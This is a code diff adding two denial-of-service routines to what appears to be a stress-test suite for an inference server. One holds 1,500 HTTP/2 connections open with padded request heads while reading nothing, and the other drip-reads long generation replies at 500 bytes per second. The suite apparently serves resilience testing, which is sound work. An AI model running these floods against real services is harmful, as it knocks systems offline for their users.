@@ -3,7 +3,8 @@
 import json
 import time
 
-from peer import CANCEL, GRPC, GZIP, H2, JSON, Raw, binary_infer, data, drip, flat_bits, grpc_message, packed, post, rst
+from peer import (CANCEL, GRPC, GZIP, H2, INITIAL_WINDOW_SIZE, JSON, Raw, binary_infer, data, drip, flat_bits, grpc_message, packed, post, rst,
+                  window)
 from registry import attack
 
 MIB = 1 << 20
@@ -131,3 +132,27 @@ def held_heads(target):
         for h2 in peers[-8:]:
             h2.pump()
     return f'{len(peers)} connections, {sum(p.pump() for p in peers)} of them still open'
+
+
+@attack(seconds=30, quick=9, quick_env=SMALL)
+def kept_input(target):
+    """1,500 HTTP/2 connections that ask for 90 large pages at once, 64 KiB of heads, and read nothing: the heads wait."""
+    fields = [(f'x-{i}', 'h' * 120) for i in range(5)]
+    heads = b''.join(H2.head(i, '/openapi.json', extra=fields) for i in range(1, 180, 2))
+    peers = []
+    while not target.over():
+        if len(peers) < target.size(1500, 400):
+            peers.append(H2(target, (INITIAL_WINDOW_SIZE, 0x3fffffff), receive_buffer=4096, wait=5).send(window(0, 0x3fffffff) + heads))
+        else:
+            time.sleep(0.05)
+    return f'{len(peers)} connections, {len(heads) >> 10} KiB of heads each'
+
+
+@attack(seconds=30, quick=6, quick_env=SMALL)
+def generate_details(target):
+    """Generate requests of 512 tokens with the details of each, gathered into answers that are read at 500 B/s."""
+    fields = {'text_input': 'Tell me all.', 'parameters': {'max_tokens': 512, 'details': True, 'ignore_eos': True}}
+    request = post('/v2/models/chat/generate', json.dumps(fields).encode(), JSON)
+    peers = [Raw(target, receive_buffer=4096, wait=5).send(request) for _ in range(target.size(200, 40))]
+    left = drip(target, peers, 500)
+    return f'{len(left)} of {len(peers)} still open'
